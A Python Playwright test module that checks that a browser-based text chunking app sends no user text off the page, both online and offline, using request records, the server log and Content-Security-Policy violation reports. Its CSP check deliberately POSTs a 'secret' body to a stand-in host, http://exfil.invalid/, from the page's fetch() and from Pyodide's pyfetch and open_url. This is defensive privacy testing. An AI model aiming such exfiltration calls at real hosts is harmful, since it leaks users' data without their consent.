"""Issue 4, section 2: nothing leaves the browser, proven three ways.

(a) Playwright records every request of a whole user flow: paste, typing, import through
    Browse TXT/MD, both modes, both edges, a Source name, both downloads, both copies (with
    clipboard permission), Copy settings link and reopening that link in a new page.
    Every request must be a same-origin GET of a file that the build wrote to dist/.
(b) The in-process server's own log says the same, and unique marker strings typed,
    pasted and imported into the document appear in no request line, header or body.
(c) A securitypolicyviolation listener sees no violation in normal use, while a deliberate
    fetch to another origin, from the page and from Python inside the page's Pyodide, is
    refused by the Content-Security-Policy.
Then the context goes offline and the flow runs again: everything keeps working and the
page asks for nothing.

One journey (two page boots) feeds all the checks below; it uses its own server so the
log holds this journey only. Deliberate cross-origin requests only ever target
`http://exfil.invalid/` (the reserved .invalid TLD never resolves, and the CSP refuses the
connection before any lookup).
"""

from __future__ import annotations

import csv
import io
import json
import uuid
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import unquote, urlsplit

import pytest
from playwright.sync_api import Request, expect

from chunker_py import Settings, analyse, to_csv, to_jsonl

from .conftest import WatchedPage, open_watched_page

EXFIL = "http://exfil.invalid/"
CLIPBOARD = ["clipboard-read", "clipboard-write"]


@dataclass
class Seen:
    method: str
    url: str
    headers: dict[str, str]
    body: bytes


@dataclass
class Journey:
    base_url: str
    markers: list[str]
    name_marker: str
    browser_requests: list[Seen]
    offline_requests: list[Seen]
    server_log: list  # conftest.Request
    online: dict[str, object]
    offline: dict[str, object]
    link: str
    reopened: dict[str, object]
    violations_in_use: list[dict[str, str]]
    page_fetch: dict[str, object]
    python_fetch: dict[str, object]
    notes: list[str] = field(default_factory=list)


def _record(sink: list[Seen]):
    def on_request(request: Request) -> None:
        sink.append(
            Seen(
                request.method, request.url, dict(request.headers), request.post_data_buffer or b""
            )
        )

    return on_request


def _read_clipboard(page) -> str:
    return page.evaluate("() => navigator.clipboard.readText()")


def run_flow(w: WatchedPage, marker: str, tmp: Path, *, reopen_by_hash: str | None = None):
    """The whole user flow on a booted page; returns what the user got out of it."""
    page = w.page
    out: dict[str, object] = {}

    # Paste (fill = one input event with the whole text), then type on top of it.
    pasted = f"Pasted paragraph {marker}-paste with some words.\n\nSecond paragraph here."
    page.fill("#source-text", pasted)
    w.settle()
    expect(page.locator("#preview-list")).to_contain_text(f"{marker}-paste")
    page.locator("#source-text").press_sequentially(f" {marker}-typed")
    w.settle()
    expect(page.locator("#records-body")).to_contain_text(f"{marker}-typed")

    # Import through Browse TXT/MD.
    lines = [f"Line {i} of the imported notes {marker}-file, some filler words." for i in range(40)]
    imported = "# Notes\n\n" + "\n".join(lines) + "\n"
    page.set_input_files(
        "#browse",
        files=[{"name": "notes.md", "mimeType": "text/markdown", "buffer": imported.encode()}],
    )
    expect(page.locator("#source-status")).to_contain_text("Imported notes.md")
    w.settle()
    assert page.input_value("#source-text") == imported

    # Settings: size/overlap, both modes, both edges, a Source name.
    page.fill("#chunk-size", "200")
    w.settle()
    page.fill("#chunk-overlap", "40")
    w.settle()
    for label in ("Fixed size", "Recursive"):
        page.get_by_label(label, exact=True).check()
        w.settle()
        expect(page.locator("#readiness-status")).to_have_text("Ready")
    for label in ("Preserve edge whitespace", "Trim edge whitespace"):
        page.get_by_label(label, exact=True).check()
        w.settle()
        expect(page.locator("#readiness-status")).to_have_text("Ready")
    page.get_by_text("Advanced", exact=True).click()
    page.fill("#source-name", out_name := f"{marker}-name")
    w.settle()
    out["fragment"] = page.evaluate("() => location.hash")

    # Downloads.
    for kind in ("jsonl", "csv"):
        with page.expect_download() as info:
            page.click(f"#download-{kind}")
        target = tmp / f"{marker}.{kind}"
        info.value.save_as(target)
        out[kind] = target.read_bytes().decode("utf-8")  # no newline translation
        out[f"{kind}_name"] = info.value.suggested_filename

    # Copies (clipboard permission granted on the context).
    for button, what in (("#copy-jsonl", "JSONL"), ("#copy-csv", "CSV")):
        page.click(button)
        expect(page.locator("#export-status")).to_have_text(f"{what} copied to the clipboard.")
        out[f"clip-{what}"] = _read_clipboard(page)
    page.click("#copy-link")
    expect(page.locator("#export-status")).to_have_text("Settings link copied to the clipboard.")
    out["link"] = _read_clipboard(page)

    out["text"] = imported
    out["name"] = out_name
    out["expected_settings"] = Settings(
        mode="recursive", chunk_size=200, chunk_overlap=40, edges="trim", source_name=out_name
    )
    out["violations"] = w.violations()
    out["dialogs"] = list(w.dialogs)
    return out


@pytest.fixture(scope="module")
def journey(browser, site, serve_dir, tmp_path_factory) -> Journey:
    server = serve_dir(site.root)  # a private server: its log is this journey alone
    tmp = tmp_path_factory.mktemp("privacy")
    run = uuid.uuid4().hex
    marker_a, marker_b = f"PRIVMARK{run[:12]}", f"PRIVMARK{run[12:24]}"

    first, close_first = open_watched_page(browser, server.url, permissions=CLIPBOARD)
    context = first.page.context
    browser_requests: list[Seen] = []
    context.on("request", _record(browser_requests))
    closers = [close_first]
    try:
        first.open()
        first.wait_ready()
        online = run_flow(first, marker_a, tmp)
        link = str(online["link"])

        # Reopen the copied link in a new page of the same context.
        second = WatchedPage(page=context.new_page(), base_url=server.url)
        second.page.on("dialog", lambda d: (second.dialogs.append(d.message), d.dismiss()))
        second.page.goto(link)
        second.wait_ready()
        reopened = {
            "mode": second.page.is_checked("#mode-recursive"),
            "size": second.page.input_value("#chunk-size"),
            "overlap": second.page.input_value("#chunk-overlap"),
            "trim": second.page.is_checked("#edges-trim"),
            "name": second.page.input_value("#source-name"),
            "text": second.page.input_value("#source-text"),
            "status": second.page.text_content("#readiness-status"),
        }

        # Offline after load: the flow again, on the reopened page; the link is reopened
        # by setting the fragment (a navigation would need the network).
        offline_requests: list[Seen] = []
        context.on("request", _record(offline_requests))
        context.set_offline(True)
        offline = run_flow(second, marker_b, tmp)
        second.page.evaluate("(hash) => { location.hash = hash; }", urlsplit(link).fragment)
        expect(second.page.locator("#source-name")).to_have_value(str(online["name"]))
        second.settle()
        offline["relinked"] = {
            "size": second.page.input_value("#chunk-size"),
            "name": second.page.input_value("#source-name"),
        }
        context.set_offline(False)
        offline_requests = list(offline_requests)  # the deliberate requests below are not use
        violations_in_use = (online["violations"] or []) + (offline["violations"] or [])
        # Count the violations so far, so the deliberate ones below are told apart.
        before = len(first.violations() or [])

        # (c) Deliberate cross-origin fetches, from the page and from its Python. Requests
        # recorded from here on are not part of normal use.
        browser_requests = list(browser_requests)
        page_fetch = first.page.evaluate(
            """async (url) => {
                try {
                    await fetch(url, { method: 'POST', body: 'secret' });
                    return { rejected: false };
                } catch (error) {
                    return { rejected: true, error: String(error) };
                }
            }""",
            EXFIL,
        )
        page_fetch["violations"] = (first.violations() or [])[before:]
        before = len(first.violations() or [])
        python_result = first.python(
            f"""
from pyodide.http import pyfetch, open_url
outcome = {{}}
try:
    await pyfetch({EXFIL!r}, method="POST", body="secret")
    outcome["pyfetch"] = "fetched"
except Exception as error:
    outcome["pyfetch"] = "refused: " + repr(error)
try:
    open_url({EXFIL!r})
    outcome["open_url"] = "fetched"
except Exception as error:
    outcome["open_url"] = "refused: " + repr(error)
import json
json.dumps(outcome)
"""
        )
        python_fetch = json.loads(str(python_result))
        python_fetch["violations"] = (first.violations() or [])[before:]
        closers.append(second.page.close)
    finally:
        for close in reversed(closers):
            close()

    return Journey(
        base_url=server.url,
        markers=[marker_a, marker_b],
        name_marker="PRIVMARK",
        browser_requests=browser_requests,
        offline_requests=offline_requests,
        server_log=server.requests,
        online=online,
        offline=offline,
        link=link,
        reopened=reopened,
        violations_in_use=violations_in_use,
        page_fetch=page_fetch,
        python_fetch=python_fetch,
    )


def _built_file(site_root: Path, url_path: str) -> Path | None:
    relative = unquote(url_path).lstrip("/") or "index.html"
    candidate = (site_root / relative).resolve()
    if site_root.resolve() not in candidate.parents or not candidate.is_file():
        return None
    return candidate


def _local_non_network(url: str, base_url: str) -> bool:
    """data: URLs and this origin's blob: URLs never leave the page."""
    origin = base_url.rstrip("/")
    return url.startswith("data:") or url.startswith(f"blob:{origin}/")


# ---------------------------------------------------------------- the flow itself


def _check_flow_output(out: dict[str, object]) -> None:
    text = str(out["text"])
    expected = analyse(text, out["expected_settings"])  # type: ignore[arg-type]
    assert expected.error is None
    assert out["jsonl"] == to_jsonl(expected)
    assert out["csv"] == to_csv(expected)
    assert out["clip-JSONL"] == out["jsonl"]
    assert out["clip-CSV"] == out["csv"]
    for line in str(out["jsonl"]).splitlines():
        record = json.loads(line)
        assert record["text"] == text[record["start"] : record["end"]]
    rows = list(csv.DictReader(io.StringIO(str(out["csv"]))))
    assert len(rows) == len(expected.chunks)
    assert out["dialogs"] == []


def test_online_flow_produced_exact_downloads_and_copies(journey: Journey) -> None:
    _check_flow_output(journey.online)
    assert journey.online["jsonl_name"] == f"{journey.online['name']}.jsonl"


def test_copied_settings_link_reopens_with_the_settings_and_never_the_text(
    journey: Journey,
) -> None:
    assert journey.link.startswith(journey.base_url + "#")
    for marker in journey.markers:
        assert f"{marker}-paste" not in journey.link and f"{marker}-file" not in journey.link
    assert journey.reopened == {
        "mode": True,
        "size": "200",
        "overlap": "40",
        "trim": True,
        "name": journey.online["name"],
        "text": journey.reopened["text"],
        "status": "Ready",
    }
    assert journey.markers[0] not in str(journey.reopened["text"])  # the sample, not the doc


def test_offline_flow_keeps_working(journey: Journey) -> None:
    _check_flow_output(journey.offline)
    assert journey.offline["relinked"] == {"size": "200", "name": journey.online["name"]}


def test_offline_flow_asks_the_network_for_nothing(journey: Journey) -> None:
    network = [
        r.url for r in journey.offline_requests if not _local_non_network(r.url, journey.base_url)
    ]
    assert network == []


# ---------------------------------------------------------------- (a) the browser's view


def test_every_browser_request_is_a_same_origin_get_of_a_built_file(journey, site) -> None:
    assert journey.browser_requests, "no requests recorded at all"
    bad = []
    for seen in journey.browser_requests:
        if _local_non_network(seen.url, journey.base_url):
            continue
        parts = urlsplit(seen.url)
        if not seen.url.startswith(journey.base_url):
            bad.append(f"foreign: {seen.method} {seen.url}")
        elif seen.method != "GET":
            bad.append(f"not a GET: {seen.method} {seen.url}")
        elif parts.query:
            bad.append(f"query string: {seen.url}")
        elif _built_file(site.root, parts.path) is None:
            bad.append(f"not a built file: {seen.url}")
    assert bad == []


def test_no_browser_request_carries_the_document_or_the_name(journey: Journey) -> None:
    for seen in journey.browser_requests:
        exposed = seen.url + json.dumps(seen.headers) + seen.body.decode("latin-1")
        assert journey.name_marker not in exposed, f"{seen.method} {seen.url} leaks a marker"


# ---------------------------------------------------------------- (b) the server's view


def test_server_log_shows_only_gets_of_built_files(journey: Journey, site) -> None:
    assert journey.server_log
    bad = [
        f"{r.method} {r.path}"
        for r in journey.server_log
        if r.method != "GET" or "?" in r.path or _built_file(site.root, r.path) is None
    ]
    assert bad == []


def test_server_log_never_holds_the_marker_in_path_headers_or_body(journey: Journey) -> None:
    for entry in journey.server_log:
        exposed = entry.path + json.dumps(entry.headers) + entry.body.decode("latin-1")
        assert journey.name_marker not in exposed, f"{entry.method} {entry.path} leaks a marker"
        assert entry.body == b""


def test_server_log_and_browser_record_agree(journey: Journey) -> None:
    server_paths = {unquote(r.path) for r in journey.server_log}
    browser_paths = {
        unquote(urlsplit(s.url).path)
        for s in journey.browser_requests
        if s.url.startswith(journey.base_url)
    }
    assert server_paths <= browser_paths  # the server saw nothing the browser did not ask
    assert "/" in server_paths and "/" in browser_paths


# ---------------------------------------------------------------- (c) the policy's view


def test_csp_listener_was_installed_and_saw_no_violation_in_normal_use(journey: Journey) -> None:
    assert journey.online["violations"] == [], "listener missing or violations seen"
    assert journey.offline["violations"] == []
    assert journey.violations_in_use == []


def test_fetch_to_another_origin_from_the_page_is_blocked_by_csp(journey: Journey) -> None:
    assert journey.page_fetch["rejected"] is True
    directives = {(v["directive"], v["blocked"]) for v in journey.page_fetch["violations"]}
    assert ("connect-src", EXFIL) in directives or ("connect-src", EXFIL.rstrip("/")) in directives


def test_fetch_from_python_in_the_pages_pyodide_is_blocked_by_csp(journey: Journey) -> None:
    assert str(journey.python_fetch["pyfetch"]).startswith("refused: ")
    assert str(journey.python_fetch["open_url"]).startswith("refused: ")
    blocked = [v for v in journey.python_fetch["violations"] if v["directive"] == "connect-src"]
    assert len(blocked) >= 2
    assert all(v["blocked"].startswith(EXFIL.rstrip("/")) for v in blocked)


def test_deliberate_requests_never_reached_the_network_or_the_server(journey: Journey) -> None:
    assert not any("exfil" in r.path for r in journey.server_log)
    assert not any(r.body for r in journey.server_log)
